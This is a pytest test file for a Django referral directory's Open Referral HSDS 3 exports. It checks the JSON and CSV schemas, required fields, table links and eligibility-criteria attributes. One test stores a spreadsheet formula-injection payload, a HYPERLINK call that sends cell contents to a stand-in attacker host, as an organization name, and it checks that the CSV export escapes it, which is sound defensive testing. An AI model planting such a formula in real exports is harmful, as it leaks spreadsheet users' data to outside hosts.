"""The directory's Open Referral HSDS 3 export, checked against HSDS 3's entity and field names
(taken from openreferral/specification schema/*.json), its required fields, enumerations and
the links between tables."""

import csv
import io
import json
import uuid
import zipfile

import pytest
from django.urls import reverse

from referrals.models import Contact, ServiceCriteria
from registry.models import PpksCategory
from tests.conftest import WATES
from tests.referrals.factories import service_with_details

# HSDS 3 properties of each entity (schema/<entity>.json).
HSDS = {
    "organization": {
        "id",
        "name",
        "alternate_name",
        "description",
        "email",
        "website",
        "tax_status",
        "tax_id",
        "year_incorporated",
        "legal_status",
        "logo",
        "uri",
        "parent_organization_id",
        "funding",
        "contacts",
        "phones",
        "locations",
        "programs",
        "organization_identifiers",
        "attributes",
        "metadata",
    },
    "service": {
        "id",
        "organization_id",
        "program_id",
        "name",
        "alternate_name",
        "description",
        "url",
        "email",
        "status",
        "interpretation_services",
        "application_process",
        "fees_description",
        "wait_time",
        "fees",
        "accreditations",
        "eligibility_description",
        "minimum_age",
        "maximum_age",
        "assured_date",
        "assurer_email",
        "licenses",
        "alert",
        "phones",
        "schedules",
        "service_areas",
        "service_at_locations",
        "languages",
        "organization",
        "funding",
        "cost_options",
        "program",
        "required_documents",
        "contacts",
        "attributes",
        "metadata",
    },
    "location": {
        "id",
        "location_type",
        "url",
        "organization_id",
        "name",
        "alternate_name",
        "description",
        "transportation",
        "latitude",
        "longitude",
        "external_identifier",
        "external_identifier_type",
        "languages",
        "addresses",
        "contacts",
        "accessibility",
        "phones",
        "schedules",
        "attributes",
        "metadata",
    },
    "address": {
        "id",
        "location_id",
        "attention",
        "address_1",
        "address_2",
        "city",
        "region",
        "state_province",
        "postal_code",
        "country",
        "address_type",
        "attributes",
        "metadata",
    },
    "service_at_location": {
        "id",
        "service_id",
        "location_id",
        "description",
        "service_areas",
        "contacts",
        "phones",
        "schedules",
        "location",
        "attributes",
        "metadata",
    },
    "contact": {
        "id",
        "organization_id",
        "service_id",
        "service_at_location_id",
        "location_id",
        "name",
        "title",
        "department",
        "email",
        "phones",
        "attributes",
        "metadata",
    },
    "phone": {
        "id",
        "location_id",
        "service_id",
        "organization_id",
        "contact_id",
        "service_at_location_id",
        "number",
        "extension",
        "type",
        "description",
        "languages",
        "attributes",
        "metadata",
    },
    "schedule": {
        "id",
        "service_id",
        "location_id",
        "service_at_location_id",
        "valid_from",
        "valid_to",
        "dtstart",
        "timezone",
        "until",
        "count",
        "wkst",
        "freq",
        "interval",
        "byday",
        "byweekno",
        "bymonthday",
        "byyearday",
        "description",
        "opens_at",
        "closes_at",
        "schedule_link",
        "attending_type",
        "notes",
        "attributes",
        "metadata",
    },
    "required_document": {"id", "service_id", "document", "uri", "attributes", "metadata"},
    "service_area": {
        "id",
        "service_id",
        "service_at_location_id",
        "name",
        "description",
        "extent",
        "extent_type",
        "uri",
        "attributes",
        "metadata",
    },
    "attribute": {
        "id",
        "link_id",
        "taxonomy_term_id",
        "link_type",
        "link_entity",
        "value",
        "taxonomy_term",
        "metadata",
        "label",
    },
    "taxonomy_term": {
        "id",
        "code",
        "name",
        "description",
        "parent_id",
        "taxonomy",
        "taxonomy_detail",
        "language",
        "taxonomy_id",
        "term_uri",
        "metadata",
    },
    "taxonomy": {"id", "name", "description", "uri", "version", "metadata"},
}
REQUIRED = {
    "organization": {"id", "name", "description"},
    "service": {"id", "name", "status"},
    "location": {"id", "location_type"},
    "address": {"id", "address_1", "city", "state_province", "postal_code", "country", "address_type"},
    "phone": {"id", "number"},
    "taxonomy_term": {"id", "name", "description"},
    "taxonomy": {"id", "name", "description"},
}
# The tabular data package's file for each entity (the "path" of each schema).
CSV_FILES = {
    "organizations.csv": "organization",
    "services.csv": "service",
    "locations.csv": "location",
    "addresses.csv": "address",
    "service_at_location.csv": "service_at_location",
    "contacts.csv": "contact",
    "phones.csv": "phone",
    "schedules.csv": "schedule",
    "required_documents.csv": "required_document",
    "service_areas.csv": "service_area",
    "taxonomies.csv": "taxonomy",
    "taxonomy_terms.csv": "taxonomy_term",
    "attributes.csv": "attribute",
}
PAGE_KEYS = {"total_items", "total_pages", "page_number", "size", "first_page", "last_page", "empty", "contents"}


@pytest.fixture
def directory(users, dinkes, disdukcapil):
    dinkes.address, dinkes.phone, dinkes.postal_code, dinkes.description = (
        "Jl. Bhayangkara 14",
        "0321 322590",
        "61321",
        "Dinas Kesehatan.",
    )
    dinkes.save()
    pbi = service_with_details(dinkes, "Pendaftaran PBI-JK", documents=("KTP", "SKTM"), phone="0321 1")
    Contact.objects.create(
        agency=dinkes, name="Petugas Jamkesda", title="Seksi Jaminan", phone="0321 2", email="j@example.test"
    )
    Contact.objects.create(agency=dinkes, service=pbi, name="Petugas PBI", phone="0321 3")
    service_with_details(disdukcapil, "Perekaman KTP-el", documents=("KK",))
    return pbi


def check_entity(entity: str, record: dict):
    unknown = set(record) - HSDS[entity]
    assert not unknown, f"{entity} has fields HSDS 3 does not define: {unknown}"
    missing = {f for f in REQUIRED.get(entity, {"id"}) if not record.get(f)}
    assert not missing, f"{entity} lacks required {missing}"
    assert str(uuid.UUID(record["id"])) == record["id"]


def test_the_json_export_is_a_page_of_fully_nested_hsds_services(users, client_for, directory):
    response = client_for(users["loket"]).get(reverse("referrals:hsds-json"))
    assert response["Content-Type"].startswith("application/json")
    page = json.loads(response.content)
    assert set(page) == PAGE_KEYS and page["total_items"] == 2 and page["empty"] is False
    service = next(s for s in page["contents"] if s["name"] == "Pendaftaran PBI-JK")
    check_entity("service", service)
    assert service["status"] in {"active", "inactive", "defunct", "temporarily closed"}
    organization = service["organization"]
    check_entity("organization", organization)
    assert organization["id"] == service["organization_id"] and organization["name"] == directory.agency.name
    [org_contact] = organization["contacts"]
    check_entity("contact", org_contact)
    assert [p["number"] for p in org_contact["phones"]] == ["0321 2"]
    [at_location] = service["service_at_locations"]
    check_entity("service_at_location", at_location)
    location = at_location["location"]
    check_entity("location", location)
    assert location["location_type"] == "physical" and at_location["location_id"] == location["id"]
    [address] = location["addresses"]
    check_entity("address", address)
    assert (address["address_1"], address["country"], address["address_type"], address["state_province"]) == (
        "Jl. Bhayangkara 14",
        "ID",
        "physical",
        "Jawa Timur",
    )
    for phone in service["phones"] + organization["phones"]:
        check_entity("phone", phone)
    schedules = service["schedules"]
    for schedule in schedules:
        check_entity("schedule", schedule)
        assert schedule["freq"] in {"WEEKLY", "MONTHLY"}
        assert set(schedule["byday"].split(",")) <= {"MO", "TU", "WE", "TH", "FR", "SA", "SU"}
    assert [(s["byday"], s["opens_at"], s["closes_at"]) for s in schedules] == [
        ("MO,TU,WE,TH", "07:30+07:00", "16:00+07:00"),
        ("FR", "07:30+07:00", "11:00+07:00"),
    ]
    assert [d["document"] for d in service["required_documents"]] == ["KTP", "SKTM"]
    for nested, entity in (
        ("required_documents", "required_document"),
        ("service_areas", "service_area"),
        ("contacts", "contact"),
    ):
        for record in service[nested]:
            check_entity(entity, {k: v for k, v in record.items()})
    assert [c["name"] for c in service["contacts"]] == ["Petugas PBI"]


def test_the_csv_export_is_an_hsds_tabular_data_package(users, client_for, directory):
    response = client_for(users["dinkes"]).get(reverse("referrals:hsds-zip"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert set(archive.namelist()) == set(CSV_FILES) | {"datapackage.json"}
    tables = {}
    for name, entity in CSV_FILES.items():
        rows = list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"))))
        reader = csv.reader(io.StringIO(archive.read(name).decode("utf-8")))
        header = next(reader)
        assert set(header) <= HSDS[entity], (name, set(header) - HSDS[entity])
        for row in rows:
            check_entity(entity, {k: v for k, v in row.items() if v})
        tables[entity] = rows
    package = json.loads(archive.read("datapackage.json"))
    assert {r["path"] for r in package["resources"]} == set(CSV_FILES)
    ids = {entity: {r["id"] for r in rows} for entity, rows in tables.items()}
    assert len(tables["service"]) == 2 and len(tables["organization"]) == 2
    assert {r["organization_id"] for r in tables["service"]} <= ids["organization"]
    assert all(
        r["service_id"] in ids["service"] and r["location_id"] in ids["location"] for r in tables["service_at_location"]
    )
    assert all(r["location_id"] in ids["location"] for r in tables["address"])
    for entity in ("schedule", "required_document", "service_area"):
        assert all(r["service_id"] in ids["service"] for r in tables[entity]), entity
    assert {r["contact_id"] for r in tables["phone"] if r["contact_id"]} <= ids["contact"]


def test_the_csv_tables_write_a_name_typed_as_a_formula_as_text(users, client_for, directory, dinkes):
    dinkes.name = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
    dinkes.save()
    archive = zipfile.ZipFile(io.BytesIO(client_for(users["manajer"]).get(reverse("referrals:hsds-zip")).content))
    names = [row["name"] for row in csv.DictReader(io.StringIO(archive.read("organizations.csv").decode("utf-8")))]
    assert "'" + dinkes.name in names and dinkes.name not in names
    # The JSON is read by programs, not spreadsheets: it keeps the name as stored.
    page = json.loads(client_for(users["manajer"]).get(reverse("referrals:hsds-json")).content)
    assert dinkes.name in {s["organization"]["name"] for s in page["contents"]}


def test_identifiers_are_stable_between_exports(users, client_for, directory):
    client = client_for(users["manajer"])
    first = json.loads(client.get(reverse("referrals:hsds-json")).content)
    second = json.loads(client.get(reverse("referrals:hsds-json")).content)
    assert [s["id"] for s in first["contents"]] == [s["id"] for s in second["contents"]]


@pytest.fixture
def criteria(directory):
    """PBI-JK daerah's criteria: every kind the export carries."""
    directory.eligibility = "Warga miskin Kota Mojokerto."
    directory.save()
    criteria = ServiceCriteria.objects.create(
        service=directory,
        min_age=6,
        max_age=18,
        area_id=WATES,
        dtks_statuses=["terdaftar", "diusulkan"],
        max_decile=4,
        device_needed=True,
        need_domains=["kesehatan"],
        has_nik=True,
        not_receiving_program="pbi_jk",
    )
    criteria.ppks_categories.set(PpksCategory.objects.filter(code__in=[1, 2]))
    return criteria


EXPECTED_ATTRIBUTES = {
    ("lives_in", WATES, "Wates"),
    ("dtks_status", "terdaftar", "Terdaftar"),
    ("dtks_status", "diusulkan", "Diusulkan"),
    ("max_decile", "4", "4"),
    ("device_needed", "true", "ya"),
    ("need_domain", "kesehatan", "Kesehatan"),
    ("has_nik", "true", "punya NIK"),
    ("not_receiving_program", "pbi_jk", "PBI-JK"),
}


def test_the_json_export_carries_the_criteria_as_ages_description_area_and_attributes(
    users, client_for, directory, criteria
):
    page = json.loads(client_for(users["manajer"]).get(reverse("referrals:hsds-json")).content)
    service = next(s for s in page["contents"] if s["name"] == "Pendaftaran PBI-JK")
    check_entity("service", service)
    assert (service["minimum_age"], service["maximum_age"]) == (6, 18)
    description = service["eligibility_description"]
    assert description.startswith("Warga miskin Kota Mojokerto.\n\nKriteria: usia 6–18 tahun; ")
    assert "Desil kesejahteraan tertinggi: 4" in description and "Belum menerima: PBI-JK" in description
    assert "Status DTKS/DTSEN: Terdaftar, Diusulkan" in description
    assert [a["name"] for a in service["service_areas"]] == ["Kota Mojokerto", "Wates"]
    for area in service["service_areas"]:
        check_entity("service_area", area)
    attributes = service["attributes"]
    for attribute in attributes:
        check_entity("attribute", attribute)
        check_entity("taxonomy_term", attribute["taxonomy_term"])
        check_entity("taxonomy", attribute["taxonomy_term"]["taxonomy_detail"])
        assert (attribute["link_id"], attribute["link_type"], attribute["link_entity"]) == (
            service["id"],
            "eligibility",
            "service",
        )
        assert attribute["taxonomy_term_id"] == attribute["taxonomy_term"]["id"]
    found = {(a["taxonomy_term"]["code"], a["value"], a["label"]) for a in attributes}
    ppks = {(code, value) for code, value, _ in found if code == "ppks_category"}
    assert found - {f for f in found if f[0] == "ppks_category"} == EXPECTED_ATTRIBUTES
    assert ppks == {("ppks_category", "1"), ("ppks_category", "2")}
    assert {a["taxonomy_term"]["taxonomy"] for a in attributes} == {"onegate-eligibility"}
    # A service without criteria: no ages, its own description only, no attributes.
    other = next(s for s in page["contents"] if s["name"] == "Perekaman KTP-el")
    assert (other["minimum_age"], other["maximum_age"], other["attributes"]) == (None, None, [])
    assert other["eligibility_description"] == "Warga miskin."


def test_the_csv_package_carries_the_criteria_in_services_areas_and_attributes(users, client_for, directory, criteria):
    archive = zipfile.ZipFile(io.BytesIO(client_for(users["dinkes"]).get(reverse("referrals:hsds-zip")).content))

    def table(name):
        return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"))))

    service = next(r for r in table("services.csv") if r["name"] == "Pendaftaran PBI-JK")
    assert (service["minimum_age"], service["maximum_age"]) == ("6", "18")
    assert "Kriteria: usia 6–18 tahun; " in service["eligibility_description"]
    areas = [r["name"] for r in table("service_areas.csv") if r["service_id"] == service["id"]]
    assert areas == ["Kota Mojokerto", "Wates"]
    [taxonomy] = table("taxonomies.csv")
    terms = {t["id"]: t for t in table("taxonomy_terms.csv")}
    assert all(t["taxonomy_id"] == taxonomy["id"] for t in terms.values())
    attributes = table("attributes.csv")
    assert {a["link_id"] for a in attributes} == {service["id"]}
    assert {(terms[a["taxonomy_term_id"]]["code"], a["value"], a["label"]) for a in attributes} >= (EXPECTED_ATTRIBUTES)
    assert len({a["id"] for a in attributes}) == len(attributes) == len(EXPECTED_ATTRIBUTES) + 2
    package = json.loads(archive.read("datapackage.json"))
    assert {"taxonomies.csv", "taxonomy_terms.csv", "attributes.csv"} <= {r["path"] for r in package["resources"]}
